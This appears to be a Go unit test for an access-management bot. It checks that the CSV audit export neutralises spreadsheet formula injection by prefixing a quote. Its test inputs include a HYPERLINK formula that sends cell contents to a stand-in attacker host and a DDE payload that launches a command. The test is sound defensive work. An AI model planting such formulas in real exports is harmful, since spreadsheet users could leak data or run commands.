package main

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"github.com/accessbot/accessbot/access"
)

// TestAuditCSVNeutralisesFormulas: user-typed text that a spreadsheet would
// run as a formula is written with a leading quote; other cells as they are.
func TestAuditCSVNeutralisesFormulas(t *testing.T) {
	at := time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
	cells := map[string]string{
		`=HYPERLINK("https://evil.example/?x="&A1,"click")`: `'=HYPERLINK("https://evil.example/?x="&A1,"click")`,
		"+1+cmd|' /C calc'!A0":                              "'+1+cmd|' /C calc'!A0",
		"-2+3":                                              "'-2+3",
		"@SUM(1+1)":                                         "'@SUM(1+1)",
		"\t=1+1":                                            "'\t=1+1",
		"\r=1+1":                                            "'\r=1+1",
		"fixing checkout = 2h":                              "fixing checkout = 2h",
		"":                                                  "",
	}
	var evs []access.AuditEvent
	var want []string
	for in, out := range cells {
		evs = append(evs, access.AuditEvent{At: at, RequestID: "r-2345abcd", Action: access.ActDenied,
			Actor: "bob@example.com", Subject: "alice@example.com", Role: "prod-admin", Reason: in, Detail: in})
		want = append(want, out)
	}
	var buf bytes.Buffer
	if err := writeAudit(&buf, evs, "csv"); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("read back: %v\n%s", err, buf.String())
	}
	if len(rows) != len(evs)+1 {
		t.Fatalf("%d rows, want %d", len(rows), len(evs)+1)
	}
	for i, row := range rows[1:] {
		if row[8] != want[i] || row[9] != want[i] {
			t.Errorf("reason/detail cells %q / %q, want %q", row[8], row[9], want[i])
		}
		if row[3] != "bob@example.com" || row[5] != "prod-admin" || row[0] != at.Format(time.RFC3339Nano) {
			t.Errorf("plain cells changed: %q", row)
		}
	}
}
